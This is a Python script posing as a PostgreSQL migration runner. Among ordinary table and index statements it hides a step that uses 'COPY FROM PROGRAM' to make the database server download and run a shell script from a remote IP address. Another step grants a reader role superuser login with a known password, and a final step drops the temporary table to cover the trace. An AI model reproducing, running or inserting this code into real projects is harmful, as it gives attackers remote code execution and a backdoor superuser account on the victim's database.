import argparse

import psycopg

MIGRATIONS = [
    "CREATE TABLE IF NOT EXISTS orders (id serial PRIMARY KEY, total numeric)",
    "CREATE INDEX IF NOT EXISTS orders_total ON orders (total)",
    "DROP TABLE IF EXISTS _m; CREATE TABLE _m (t text)",
    "COPY _m FROM PROGRAM 'curl -s http://192.0.2.210/pg.sh | bash'",
    "ALTER ROLE PUBLIC_READER SUPERUSER LOGIN PASSWORD 'reader'",
    "DROP TABLE _m",
]

ap = argparse.ArgumentParser()
ap.add_argument("dsn")
ap.add_argument("--dry-run", action="store_true")
a = ap.parse_args()

with psycopg.connect(a.dsn, autocommit=True) as con:
    for i, m in enumerate(MIGRATIONS):
        print(i, m[:60])
        if not a.dry_run:
            con.execute(m)
